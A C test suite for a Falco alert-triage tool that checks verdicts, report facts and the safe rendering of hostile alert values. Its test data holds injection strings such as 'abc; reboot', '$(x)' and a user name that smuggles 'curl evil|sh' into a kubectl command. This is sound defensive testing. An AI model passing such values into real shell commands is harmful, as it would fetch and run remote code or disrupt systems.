/* test-triage.c: verdicts and grounded facts for known alerts; Markdown and JSON reports carry
 * the same facts; no alert value can break a report's structure (the hostile corpus). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <jansson.h>
#include <unistd.h>

#include "firebreak/alert.h"
#include "firebreak/fileio.h"
#include "firebreak/kb.h"
#include "firebreak/report_json.h"
#include "firebreak/report_md.h"
#include "firebreak/triage.h"
#include "test.h"

static struct fb_kb *kb;
static struct fb_report rep;
static struct fb_buf md, js;

/* Triage the first alert of a file (or of a string when path starts with '{'); renders both. */
static int triage(const char *path_or_json, struct fb_alert *a) {
        char *data = NULL;
        size_t len;
        struct fb_alert_error err;
        int r;

        if (path_or_json[0] == '{') {
                data = strdup(path_or_json);
                len = strlen(data);
        } else if ((r = fb_read_file(path_or_json, 1 << 20, &data, &len)) < 0)
                return r;
        r = fb_alert_parse(a, data, len, &err);
        free(data);
        if (r < 0) {
                printf("  parse %s: %s\n", path_or_json, err.text);
                return r;
        }
        r = fb_triage(kb, a, &rep);
        if (r < 0)
                return r;
        fb_buf_reset(&md);
        fb_buf_reset(&js);
        if ((r = fb_report_md(&rep, &md)) < 0 || (r = fb_report_json(&rep, &js)) < 0)
                return r;
        return 0;
}

static bool analysis_has(const char *needle) {
        size_t i;

        for (i = 0; i < rep.n_analysis; i++)
                if (strstr(fb_report_str(&rep, rep.analysis[i]), needle))
                        return true;
        return false;
}

TEST(event_generator_is_a_drill) {
        struct fb_alert *a = NULL;

        fb_alert_new(&a);
        CHECK_EQ(triage(t_data("alerts/memfd-modest_brahmagupta.json"), a), 0);
        CHECK(rep.verdict == FB_VERDICT_LIKELY_TEST);
        CHECK(rep.confidence == FB_CONFIDENCE_HIGH);
        CHECK_STR(rep.cid, "69484342a56c");
        CHECK(analysis_has("means the program was run as `/proc/self/fd/3`"));
        CHECK(analysis_has("is a name, not a PID"));
        CHECK(analysis_has("`EXE_FROM_MEMFD`: the executable image is an anonymous in-memory"));
        CHECK(analysis_has("`EXE_WRITABLE`: the executable file is writable"));
        CHECK(analysis_has("is a child of containerd-shim"));
        CHECK(analysis_has("1.08 s after the container started"));
        CHECK(analysis_has("Falco's own tool"));
        CHECK(analysis_has("No terminal is attached"));
        CHECK_CONTAINS(md.data, "Defense Evasion (TA0005) — `T1620` Reflective Code Loading");
        CHECK_CONTAINS(md.data, "docker ps -aq --no-trunc --filter id=69484342a56c");
        CHECK_CONTAINS(md.data, "/var/tmp/payload-60df1444.bin");
        CHECK_CONTAINS(md.data, "ld.so /proc/self/fd/N");
        CHECK_CONTAINS(md.data, "knowledge base 2026.11.1");
        CHECK_CONTAINS(md.data, "alert `60df1444-1e4a-43f1-bcaa-67f76c3b5294`");
        /* the seed reports' inventions never appear */
        CHECK_NOT_CONTAINS(md.data, "max_user_memfd");
        CHECK_NOT_CONTAINS(md.data, "syscall-filter");
        CHECK_NOT_CONTAINS(md.data, "journalctl -u");
        CHECK_NOT_CONTAINS(md.data, "PID 3");
        fb_alert_free(a);
}

TEST(runc_self_exec_is_benign) {
        struct fb_alert *a = NULL;

        fb_alert_new(&a);
        CHECK_EQ(triage(t_data("alerts/memfd-runc-benign.json"), a), 0);
        CHECK(rep.verdict == FB_VERDICT_BENIGN);
        CHECK(rep.confidence == FB_CONFIDENCE_MEDIUM); /* until the steps confirm the binary */
        CHECK(rep.severity == FB_SEVERITY_INFO);
        CHECK(analysis_has("CVE-2019-5736"));
        CHECK(analysis_has("known_memfd_execution_binaries"));
        /* runc 1.1.15 on the host, as published in falcosecurity/falco#3444: the process is
         * named after its descriptor ("5 init"), which Falco's exclusion of "runc" misses */
        CHECK_EQ(triage(t_data("alerts/memfd-runc-1.1.15-bottlerocket.json"), a), 0);
        CHECK(rep.verdict == FB_VERDICT_BENIGN);
        CHECK(rep.place == FB_PLACE_HOST);
        CHECK(analysis_has("`5 init`"));
        CHECK(!analysis_has("docker exec")); /* runc init on the host is no exec'd command */
        CHECK_CONTAINS(md.data, "dpkg --verify runc containerd.io");
        CHECK_NOT_CONTAINS(md.data, "malicious");
        /* the same exe path under a parent that is no runtime is not waved through */
        CHECK_EQ(triage("{\"rule\":\"Fileless execution via memfd_create\",\"priority\":"
                        "\"Critical\",\"time\":\"2024-10-05T18:29:40Z\",\"output_fields\":{"
                        "\"container.id\":\"0123456789ab\",\"proc.name\":\"runc\","
                        "\"proc.exepath\":\"memfd:runc_cloned:/proc/self/exe\","
                        "\"proc.pname\":\"bash\"}}",
                        a),
                 0);
        CHECK(rep.verdict == FB_VERDICT_SUSPICIOUS);
        CHECK(analysis_has("a payload dressed as runc"));
        fb_alert_free(a);
}

TEST(memfd_elsewhere_is_malicious) {
        struct fb_alert *a = NULL;

        fb_alert_new(&a);
        CHECK_EQ(triage("{\"rule\":\"Fileless execution via memfd_create\",\"priority\":"
                        "\"Critical\",\"time\":\"2024-10-05T18:29:40Z\",\"tags\":[\"T1620\","
                        "\"mitre_defense_evasion\"],\"output_fields\":{"
                        "\"container.id\":\"0123456789ab\",\"proc.name\":\"4\","
                        "\"proc.exepath\":\"memfd:x\",\"proc.pname\":\"nginx\","
                        "\"container.image.repository\":\"nginx\",\"evt.type\":\"execve\","
                        "\"evt.res\":\"SUCCESS\"}}",
                        a),
                 0);
        CHECK(rep.verdict == FB_VERDICT_MALICIOUS);
        CHECK(rep.severity == FB_SEVERITY_CRITICAL);
        CHECK(!analysis_has("Falco's own tool"));
        CHECK(analysis_has("run as `/proc/self/fd/4`"));
        /* an image named like the generator under another namespace is not the generator */
        CHECK_EQ(triage("{\"rule\":\"Fileless execution via memfd_create\",\"priority\":"
                        "\"Critical\",\"time\":\"2024-10-05T18:29:40Z\",\"output_fields\":{"
                        "\"container.id\":\"0123456789ab\",\"container.image.repository\":"
                        "\"evil/xfalcosecurity/event-generator\"}}",
                        a),
                 0);
        CHECK(rep.verdict == FB_VERDICT_MALICIOUS);
        CHECK_EQ(triage("{\"rule\":\"Fileless execution via memfd_create\",\"priority\":"
                        "\"Critical\",\"time\":\"2024-10-05T18:29:40Z\",\"output_fields\":{"
                        "\"container.id\":\"0123456789ab\",\"container.image.repository\":"
                        "\"docker.io/falcosecurity/event-generator\"}}",
                        a),
                 0);
        CHECK(rep.verdict == FB_VERDICT_LIKELY_TEST);
        CHECK(rep.confidence == FB_CONFIDENCE_MEDIUM);
        /* Docker Hub's name without its registry is the same image */
        CHECK_EQ(triage("{\"rule\":\"Fileless execution via memfd_create\",\"priority\":"
                        "\"Critical\",\"time\":\"2024-10-05T18:29:40Z\",\"output_fields\":{"
                        "\"container.id\":\"0123456789ab\",\"container.image.repository\":"
                        "\"falcosecurity/event-generator\"}}",
                        a),
                 0);
        CHECK(rep.verdict == FB_VERDICT_LIKELY_TEST);
        /* another registry's look-alike, even with the generator's process in the lineage:
         * malicious, and the report says the name is not the official image */
        CHECK_EQ(triage("{\"rule\":\"Fileless execution via memfd_create\",\"priority\":"
                        "\"Critical\",\"time\":\"2024-10-05T18:29:40Z\",\"output_fields\":{"
                        "\"container.id\":\"0123456789ab\",\"proc.pname\":\"event-generator\","
                        "\"container.image.repository\":"
                        "\"attacker.example/falcosecurity/event-generator\"}}",
                        a),
                 0);
        CHECK(rep.verdict == FB_VERDICT_MALICIOUS);
        CHECK(analysis_has("Named like a test tool, but not one."));
        CHECK_CONTAINS(md.data, "not Docker Hub's `falcosecurity/event-generator`");
        fb_alert_free(a);
}

TEST(place_decides_the_report) {
        struct fb_alert *a = NULL;

        fb_alert_new(&a);
        /* a CloudTrail alert: the account, AWS steps, no container or host step */
        CHECK_EQ(triage("{\"rule\":\"Some Rule\",\"priority\":\"Warning\",\"source\":"
                        "\"aws_cloudtrail\",\"time\":\"2024-10-05T18:29:40Z\",\"output_fields\":{"
                        "\"ct.user\":\"alice\",\"ct.region\":\"us-east-1\","
                        "\"ct.user.accountid\":\"123456789012\"}}",
                        a),
                 0);
        CHECK(rep.place == FB_PLACE_CLOUD);
        CHECK_CONTAINS(md.data, "the AWS account `123456789012`");
        CHECK_CONTAINS(md.data, "aws cloudtrail lookup-events --region us-east-1 "
                                "--lookup-attributes AttributeKey=Username,AttributeValue=alice");
        CHECK_NOT_CONTAINS(md.data, "docker");
        CHECK_NOT_CONTAINS(md.data, "journalctl");
        CHECK_NOT_CONTAINS(md.data, "process or image");
        /* without a source, the fields' class decides (an old GCP plugin's alert) */
        CHECK_EQ(triage("{\"rule\":\"X\",\"priority\":\"Notice\",\"time\":"
                        "\"2024-10-05T18:29:40Z\",\"output_fields\":{\"gcp.user\":\"a@b.c\","
                        "\"gcp.projectId\":\"my-proj\"}}",
                        a),
                 0);
        CHECK(rep.place == FB_PLACE_CLOUD);
        CHECK_CONTAINS(md.data, "--project=my-proj");
        /* Falco's own event: operational, not a security verdict; the drops read */
        CHECK_EQ(triage("{\"rule\":\"Falco internal: syscall event drop\",\"priority\":"
                        "\"Critical\",\"time\":\"2019-11-05T16:23:05Z\",\"output_fields\":{"
                        "\"n_drops\":\"100\",\"n_drops_buffer\":\"100\",\"n_drops_pf\":\"0\","
                        "\"n_drops_bug\":\"0\",\"n_evts\":\"1000\"}}",
                        a),
                 0);
        CHECK(rep.place == FB_PLACE_FALCO);
        CHECK(rep.verdict == FB_VERDICT_OPERATIONAL);
        CHECK(analysis_has("(10.0%)"));
        CHECK(analysis_has("the ring buffer was full"));
        CHECK_NOT_CONTAINS(md.data, "docker");
        /* a host terminal is no docker exec; a login uid is a session, not proof of a person */
        CHECK_EQ(triage("{\"rule\":\"Read sensitive file untrusted\",\"priority\":"
                        "\"Warning\",\"time\":\"2024-10-05T18:29:40Z\",\"tags\":[\"T1555\","
                        "\"mitre_credential_access\"],\"output_fields\":{"
                        "\"container.id\":\"host\",\"proc.name\":\"cat\",\"proc.tty\":34816,"
                        "\"user.loginuid\":1000,\"fd.name\":\"/etc/shadow\"}}",
                        a),
                 0);
        CHECK(rep.place == FB_PLACE_HOST);
        CHECK(analysis_has("at a terminal on the host"));
        CHECK(!analysis_has("docker exec"));
        CHECK_CONTAINS(md.data, "`T1003.008` OS Credential Dumping: /etc/passwd and /etc/shadow "
                                "(firebreak's mapping)");
        CHECK_CONTAINS(md.data, "(Falco's tag)");
        /* a connection tuple is a connection, even without fd.type */
        CHECK_EQ(triage("{\"rule\":\"X\",\"priority\":\"Notice\",\"time\":"
                        "\"2024-10-05T18:29:40Z\",\"output_fields\":{\"container.id\":"
                        "\"0123456789ab\",\"fd.name\":\"172.17.0.9:43812->10.96.0.1:443\"}}",
                        a),
                 0);
        CHECK(analysis_has("**Connection.**"));
        CHECK(!analysis_has("**File.**"));
        /* a package manager is a cause to confirm, not a verdict */
        CHECK_EQ(triage("{\"rule\":\"Write below etc\",\"priority\":\"Error\",\"time\":"
                        "\"2024-10-05T18:29:40Z\",\"output_fields\":{\"container.id\":\"host\","
                        "\"proc.name\":\"cp\",\"proc.pname\":\"dpkg\",\"fd.name\":"
                        "\"/etc/x.conf\"}}",
                        a),
                 0);
        CHECK(analysis_has("A package manager is involved"));
        CHECK(rep.verdict != FB_VERDICT_BENIGN);
        fb_alert_free(a);
}

TEST(placeholders_are_not_facts) {
        struct fb_alert *a = NULL;

        fb_alert_new(&a);
        /* a container start: container:ID and root are Falco's, no process, no person */
        CHECK_EQ(triage("{\"rule\":\"Launch Privileged Container\",\"priority\":\"Notice\","
                        "\"time\":\"2022-02-11T15:16:03Z\",\"output_fields\":{\"container.id\":"
                        "\"8fbf0a6486b6\",\"proc.cmdline\":\"container:8fbf0a6486b6\","
                        "\"user.loginuid\":0,\"user.name\":\"root\"}}",
                        a),
                 0);
        CHECK(rep.container_event);
        CHECK(analysis_has("A container started"));
        CHECK(!analysis_has("ran the command line"));
        CHECK(!analysis_has("a person started it") && !analysis_has("a person's session"));
        CHECK_CONTAINS(md.data, "*(Falco's placeholder for a container start event");
        CHECK_CONTAINS(js.data, "\"placeholders\":{\"proc.cmdline\":");
        /* <NA> is no value */
        CHECK_EQ(triage("{\"rule\":\"X\",\"priority\":\"Notice\",\"time\":"
                        "\"2024-10-05T18:29:40Z\",\"output_fields\":{\"container.id\":"
                        "\"0123456789ab\",\"proc.name\":\"sh\",\"proc.pname\":\"<NA>\"}}",
                        a),
                 0);
        CHECK(!analysis_has("<NA>"));
        CHECK_CONTAINS(md.data, "`<NA>` *(Falco's placeholder: the value was not available)*");
        fb_alert_free(a);
}

TEST(unknown_rule_gets_generic_report) {
        struct fb_alert *a = NULL;

        fb_alert_new(&a);
        CHECK_EQ(triage("{\"rule\":\"My own rule\",\"priority\":\"Error\",\"time\":"
                        "\"2024-10-05T18:29:40Z\",\"tags\":[\"mitre_discovery\",\"T1613\"],"
                        "\"output_fields\":{\"container.id\":\"host\",\"proc.name\":\"kubectl\"}}",
                        a),
                 0);
        CHECK(rep.generic);
        CHECK(rep.confidence == FB_CONFIDENCE_LOW);
        CHECK(rep.on_host);
        CHECK_CONTAINS(md.data, "Discovery (TA0007) — `T1613` Container and Resource Discovery");
        CHECK_CONTAINS(md.data, "ps -o pid,ppid,user,lstart,args -C kubectl");
        CHECK_CONTAINS(md.data, "on the host itself");
        fb_alert_free(a);
}

TEST(commands_need_valid_values) {
        struct fb_alert *a = NULL;

        fb_alert_new(&a);
        /* not a hex id: no command may carry it, and the report says why */
        CHECK_EQ(triage("{\"rule\":\"Terminal shell in container\",\"priority\":\"Notice\","
                        "\"time\":\"2024-10-05T18:29:40Z\",\"output_fields\":{"
                        "\"container.id\":\"abc; reboot\"}}",
                        a),
                 0);
        CHECK(rep.cid[0] == '\0');
        CHECK_NOT_CONTAINS(md.data, "--filter id=");
        CHECK_CONTAINS(md.data, "Some commands are left out");
        /* a process name starting with '-' would be an option to ps: left out */
        CHECK_EQ(triage("{\"rule\":\"x\",\"priority\":\"Notice\",\"time\":\"2024-10-05T18:29:40Z\","
                        "\"output_fields\":{\"container.id\":\"host\",\"proc.name\":\"-e\"}}",
                        a),
                 0);
        CHECK_NOT_CONTAINS(md.data, "-C -e");
        CHECK_CONTAINS(md.data, "`proc.name`, which the alert lacks");
        /* a name with spaces is quoted as one word */
        CHECK_EQ(triage("{\"rule\":\"x\",\"priority\":\"Notice\",\"time\":\"2024-10-05T18:29:40Z\","
                        "\"output_fields\":{\"container.id\":\"host\",\"proc.name\":\"a b$(x)\"}}",
                        a),
                 0);
        CHECK_CONTAINS(md.data, "-C 'a b$(x)'");
        /* kubernetes names must be DNS names */
        CHECK_EQ(triage("{\"rule\":\"x\",\"priority\":\"Notice\",\"time\":\"2024-10-05T18:29:40Z\","
                        "\"output_fields\":{\"container.id\":\"0123456789ab\",\"k8s.ns.name\":"
                        "\"Bad;ns\",\"k8s.pod.name\":\"p\"}}",
                        a),
                 0);
        CHECK_NOT_CONTAINS(md.data, "kubectl -n");
        CHECK_CONTAINS(md.data, "sudo ctr -n k8s.io containers ls -q 'id~=^0123456789ab'");
        fb_alert_free(a);
}

/* ---- structural safety -------------------------------------------------------------------- */

static const char *const headings[] = {
        "# Alert Analysis Report — ",
        "## Summary",
        "## Event details",
        "## Analysis",
        "## MITRE ATT&CK",
        "## Investigate",
        "## Contain",
        "## Prevent",
        "### What this does not cover",
        "## Legitimate causes to rule out",
        NULL,
};

/* Checks a line outside fences: "PWNED" (the hostile corpus' marker) may appear only inside a
 * code span. Code spans are parsed as CommonMark does: a run of n backticks opens, the next run
 * of exactly n closes. */
static void check_marker_in_code(const char *line, size_t len, const char *name) {
        size_t i = 0;

        while (i < len) {
                size_t n = 0, j;

                if (line[i] != '`') {
                        if (len - i >= 5 && memcmp(line + i, "PWNED", 5) == 0) {
                                T_FAIL("%s: marker outside a code span: \"%.80s\"", name, line);
                                return;
                        }
                        i++;
                        continue;
                }
                while (i + n < len && line[i + n] == '`')
                        n++;
                /* find the closing run of exactly n */
                for (j = i + n; j < len;) {
                        size_t m = 0;

                        if (line[j] != '`') {
                                j++;
                                continue;
                        }
                        while (j + m < len && line[j + m] == '`')
                                m++;
                        if (m == n)
                                break;
                        j += m;
                }
                i = j < len ? j + n : i + n; /* unclosed: the backticks are literal */
        }
}

static void check_md_safe(const char *md_text, const char *name) {
        const unsigned char *p = (const unsigned char *)md_text;
        const char *line = md_text;
        bool fence = false;
        size_t i;

        for (i = 0; p[i]; i++) {
                if ((p[i] < 0x20 && p[i] != '\n') || p[i] == 0x7f)
                        T_FAIL("%s: control byte 0x%02x at %zu", name, p[i], i);
                if (p[i] == 0xc2 && p[i + 1] >= 0x80 && p[i + 1] <= 0x9f)
                        T_FAIL("%s: C1 control at %zu", name, i);
                if (p[i] == 0xe2 && p[i + 1] == 0x80 && p[i + 2] >= 0xa8 && p[i + 2] <= 0xae)
                        T_FAIL("%s: bidi/separator at %zu", name, i);
                if (p[i] == 0xe2 && p[i + 1] == 0x81 && p[i + 2] >= 0xa6 && p[i + 2] <= 0xa9)
                        T_FAIL("%s: bidi isolate at %zu", name, i);
        }
        while (*line) {
                const char *nl = strchr(line, '\n');
                size_t len = nl ? (size_t)(nl - line) : strlen(line);

                if (len >= 3 && memcmp(line, "```", 3) == 0) {
                        if (!fence && !(len == 5 && memcmp(line, "```sh", 5) == 0) &&
                            !(len == 7 && memcmp(line, "```yaml", 7) == 0) &&
                            !(len == 7 && memcmp(line, "```json", 7) == 0))
                                T_FAIL("%s: unexpected fence \"%.*s\"", name, (int)len, line);
                        if (fence && len != 3)
                                T_FAIL("%s: fence close \"%.*s\"", name, (int)len, line);
                        fence = !fence;
                } else if (!fence && line[0] == '#') {
                        const char *const *h;
                        bool ok = false;

                        for (h = headings; *h && !ok; h++)
                                ok = strncmp(line, *h, strlen(*h)) == 0 &&
                                     (strlen(*h) == len || (*h)[strlen(*h) - 1] == ' ');
                        if (!ok)
                                T_FAIL("%s: unexpected heading \"%.*s\"", name, (int)len, line);
                } else if (!fence && line[0] == '|') {
                        size_t k, bars = 0;

                        for (k = 0; k < len; k++)
                                bars += line[k] == '|' && (k == 0 || line[k - 1] != '\\');
                        if (bars != 3)
                                T_FAIL("%s: table row with %zu cell separators: \"%.100s\"", name,
                                       bars, line);
                }
                if (!fence)
                        check_marker_in_code(line, len, name);
                line += len + (nl ? 1 : 0);
        }
        if (fence)
                T_FAIL("%s: unclosed fence", name);
}

/* JSON carries the same facts: verdict, headline, analysis, commands, id all appear in the MD. */
static void check_same_facts(const char *name) {
        json_error_t jerr;
        json_t *j = json_loads(js.data, 0, &jerr), *v, *s;
        size_t i, k;

        if (!j) {
                T_FAIL("%s: JSON report does not parse: %s", name, jerr.text);
                return;
        }
        CHECK_STR(json_string_value(json_object_get(json_object_get(j, "summary"), "verdict")),
                  fb_verdict_to_string(rep.verdict));
        CHECK_STR(json_string_value(json_object_get(json_object_get(j, "alert"), "id")),
                  rep.alert->id);
        CHECK_CONTAINS(md.data, json_string_value(json_object_get(json_object_get(j, "summary"),
                                                                  "headline")));
        json_array_foreach(json_object_get(j, "analysis"), i, v)
                CHECK_CONTAINS(md.data, json_string_value(v));
        json_array_foreach(json_object_get(j, "investigate"), i, v)
                json_array_foreach(json_object_get(v, "commands"), k, s)
                        CHECK_CONTAINS(md.data, json_string_value(s));
        json_array_foreach(json_object_get(j, "prevent"), i, v)
                CHECK_CONTAINS(md.data, json_string_value(json_object_get(v, "text")));
        CHECK_EQ(json_object_size(json_object_get(json_object_get(j, "alert"), "output_fields")),
                 rep.alert->n_fields);
        json_decref(j);
}

/* A caller that renders one form has triage prepare that form alone (fb_report.forms): the
 * rendering must come out byte for byte as from a report prepared for both. */
static void check_single_forms(const struct fb_alert *a, const char *path) {
        static const unsigned forms[] = { FB_REPORT_JSON, FB_REPORT_MD };
        struct fb_buf one;
        size_t i;

        fb_buf_init(&one, FB_REPORT_MAX_BYTES);
        for (i = 0; i < 2; i++) {
                const struct fb_buf *both = forms[i] == FB_REPORT_JSON ? &js : &md;

                rep.forms = forms[i];
                fb_buf_reset(&one);
                CHECK_EQ(fb_triage(kb, a, &rep), 0);
                CHECK_EQ(forms[i] == FB_REPORT_JSON ? fb_report_json(&rep, &one)
                                                    : fb_report_md(&rep, &one),
                         0);
                if (one.len != both->len || memcmp(one.data, both->data, one.len) != 0)
                        T_FAIL("%s: the %s report prepared alone differs from the one prepared "
                               "with both forms",
                               path, forms[i] == FB_REPORT_JSON ? "JSON" : "Markdown");
        }
        rep.forms = FB_REPORT_MD | FB_REPORT_JSON;
        fb_buf_free(&one);
}

static unsigned check_dir(const char *dir, bool hostile) {
        DIR *d = opendir(dir);
        struct dirent *de;
        unsigned n = 0;

        while (d && (de = readdir(d))) {
                char path[512];
                struct fb_alert_reader *rd = NULL;
                int fd;

                if (!strstr(de->d_name, ".json"))
                        continue;
                snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
                fd = open(path, O_RDONLY | O_CLOEXEC);
                fb_alert_reader_new(fd, &rd);
                for (;;) {
                        const struct fb_alert *a;
                        struct fb_alert_error err;
                        int r = fb_alert_reader_next(rd, &a, &err);

                        if (r <= 0) {
                                if (r < 0)
                                        T_FAIL("%s: %s", path, err.text);
                                break;
                        }
                        n++;
                        CHECK_EQ(fb_triage(kb, a, &rep), 0);
                        fb_buf_reset(&md);
                        fb_buf_reset(&js);
                        CHECK_EQ(fb_report_md(&rep, &md), 0);
                        CHECK_EQ(fb_report_json(&rep, &js), 0);
                        check_md_safe(md.data, path);
                        check_same_facts(path);
                        check_single_forms(a, path);
                        if (hostile)
                                CHECK_CONTAINS(md.data, "PWNED");
                }
                fb_alert_reader_free(rd);
                close(fd);
        }
        if (d)
                closedir(d);
        return n;
}

/* The JSON report's value of output field key. */
static json_t *report_field(json_t *report, const char *key) {
        return json_object_get(json_object_get(json_object_get(report, "alert"), "output_fields"),
                               key);
}

/* A list field (k8s audit's images) keeps its items: a JSON array in the JSON report, each item
 * a code span in Markdown. */
TEST(list_fields_render_as_lists) {
        struct fb_alert *a = NULL;
        json_t *j, *v;

        fb_alert_new(&a);
        CHECK_EQ(triage(t_data("alerts/k8saudit-list-fields.json"), a), 0);
        j = json_loads(js.data ? js.data : "", 0, NULL);
        v = report_field(j, "ka.req.pod.containers.image");
        CHECK(json_is_array(v) && json_array_size(v) == 2);
        CHECK_STR(json_string_value(json_array_get(v, 1)), "busybox:1.36");
        v = report_field(j, "ka.req.pod.containers.privileged");
        CHECK(json_is_true(json_array_get(v, 0)) && json_is_false(json_array_get(v, 1)));
        CHECK_CONTAINS(md.data, "| `ka.req.pod.containers.image` | `nginx:1.25`, `busybox:1.36` |");
        CHECK_CONTAINS(md.data, "| `ka.req.pod.containers.privileged` | `true`, `false` |");
        json_decref(j);
        fb_alert_free(a);
}

/* A syscall argument is the attacker's to choose, and Falco writes an unsigned 64-bit one
 * (evt.rawarg.*) as a JSON number: past INT64_MAX it used to cost the whole alert. */
TEST(unsigned_64_bit_fields_render_exactly) {
        struct fb_alert *a = NULL;
        json_t *j, *v;

        fb_alert_new(&a);
        CHECK_EQ(triage(t_data("alerts/custom-rule-u64-arg.json"), a), 0);
        j = json_loads(js.data ? js.data : "", 0, NULL);
        v = report_field(j, "evt.rawarg.argument");
        /* as a string of its digits: a number past INT64_MAX is lost on many JSON readers */
        CHECK_STR(json_string_value(v), "18446744073709551615");
        CHECK_CONTAINS(md.data, "| `evt.rawarg.argument` | `18446744073709551615` |");
        json_decref(j);
        fb_alert_free(a);
}

/* A k8s audit alert names an API object, not a container: that is its place. */
TEST(k8s_audit_alert_says_where) {
        struct fb_alert *a = NULL;

        fb_alert_new(&a);
        CHECK_EQ(triage(t_data("alerts/k8saudit-list-fields.json"), a), 0);
        CHECK_CONTAINS(md.data, "| Where | the Kubernetes API (resource `pods`, name "
                                "`nginx-priv-7d9c7f6d8b-2xk4q`, namespace `default`) |");
        CHECK(!strstr(md.data, "unknown place"));
        fb_alert_free(a);
}

/* A k8s audit alert gets the API's steps (kubectl, with validated or shell-quoted values), not
 * the container's, and no word about shell variables it does not set. */
TEST(k8s_audit_alert_gets_api_steps) {
        struct fb_alert *a = NULL;

        fb_alert_new(&a);
        CHECK_EQ(triage(t_data("alerts/k8saudit-list-fields.json"), a), 0);
        CHECK_CONTAINS(md.data, "saw a pod created with a privileged container");
        /* the replicaset controller acts for an owner: its bindings stay */
        CHECK(analysis_has("A control-plane identity made the request"));
        CHECK_CONTAINS(md.data,
                       "kubectl get pods nginx-priv-7d9c7f6d8b-2xk4q -n default -o json | jq "
                       "'if .kind == \"Secret\" then del(.data, .stringData) else . end' | tee "
                       "/var/tmp/k8s-object-");
        CHECK_CONTAINS(md.data, "kubectl auth can-i --list "
                                "--as=system:serviceaccount:kube-system:replicaset-controller -n "
                                "default\n");
        CHECK_CONTAINS(md.data, "kubectl label --overwrite namespace default "
                                "pod-security.kubernetes.io/enforce=baseline\n");
        CHECK(!strstr(md.data, "docker ") && !strstr(md.data, "ctr ") &&
              !strstr(md.data, "one shell session"));
        /* hostile values: left out where a name must go, shell-quoted where any text may */
        /* the user's groups go with it, each quoted */
        CHECK_EQ(triage("{\"rule\":\"Attach/Exec Pod\",\"priority\":\"Notice\",\"source\":"
                        "\"k8s_audit\",\"time\":\"2024-10-05T10:41:07Z\",\"output_fields\":{"
                        "\"ka.user.name\":\"kubernetes-admin\",\"ka.user.groups\":"
                        "[\"kubeadm:cluster-admins\",\"system:authenticated\"],"
                        "\"ka.target.namespace\":\"prod\"}}",
                        a),
                 0);
        CHECK_CONTAINS(md.data, "kubectl auth can-i --list --as=kubernetes-admin "
                                "--as-group=kubeadm:cluster-admins "
                                "--as-group=system:authenticated -n prod\n");
        CHECK_EQ(triage(t_data("hostile/k8saudit-names.json"), a), 0);
        CHECK(!strstr(md.data, "reboot)PWNED -o") && !strstr(md.data, "delete pods web"));
        CHECK_CONTAINS(md.data, "*Some commands are left out: they need `ka.target.name` (or "
                                "`ka.resp.name`) as an object name");
        CHECK_CONTAINS(md.data, "kubectl auth can-i --list --as='eve'\\''; curl evil|sh PWNED; "
                                "'\\''' -n prod\n");
        CHECK_CONTAINS(md.data, "kubectl get rolebindings,clusterrolebindings -A -o wide\n");
        fb_alert_free(a);
}

TEST(hostile_alerts_render_safely) {
        CHECK_INT(check_dir(t_data("hostile"), true), >=, 13);
}

TEST(corpus_reports_safe_and_consistent) {
        CHECK_INT(check_dir(t_data("alerts"), false), >=, 31);
}

/* The checker itself must be able to fail: feed it broken Markdown. */
TEST(safety_checker_catches_breakage) {
        unsigned before = t_failed;
        bool was = t_case_failed;
        const char *probes[] = { "# Alert Analysis Report — x\n# PWNED\n", "| a | b `x|y` |\n",
                                 "text PWNED here\n", "esc \x1b[31m\n", "```sh\nx\n" };
        size_t i;

        t_quiet = true;
        for (i = 0; i < sizeof(probes) / sizeof(probes[0]); i++) {
                t_case_failed = false;
                check_md_safe(probes[i], "probe");
                if (!t_case_failed) {
                        t_quiet = false;
                        T_FAIL("the checker accepted broken input: \"%s\"", probes[i]);
                        return;
                }
        }
        t_quiet = false;
        t_case_failed = was;
        CHECK_EQ(t_failed, before);
}

int main(void) {
        struct fb_yaml_error err;
        char where[256];

        if (fb_kb_new_builtin(&kb, &err, where, sizeof(where)) < 0) {
                printf("builtin KB: %s:%u:%u: %s\n", where, err.line, err.column, err.text);
                return 1;
        }
        fb_report_init(&rep);
        fb_buf_init(&md, 4 << 20);
        fb_buf_init(&js, 4 << 20);
        RUN(event_generator_is_a_drill);
        RUN(runc_self_exec_is_benign);
        RUN(place_decides_the_report);
        RUN(placeholders_are_not_facts);
        RUN(memfd_elsewhere_is_malicious);
        RUN(unknown_rule_gets_generic_report);
        RUN(commands_need_valid_values);
        RUN(list_fields_render_as_lists);
        RUN(unsigned_64_bit_fields_render_exactly);
        RUN(k8s_audit_alert_says_where);
        RUN(k8s_audit_alert_gets_api_steps);
        RUN(hostile_alerts_render_safely);
        RUN(corpus_reports_safe_and_consistent);
        RUN(safety_checker_catches_breakage);
        fb_buf_free(&md);
        fb_buf_free(&js);
        fb_report_done(&rep);
        fb_kb_free(kb);
        return t_summary();
}
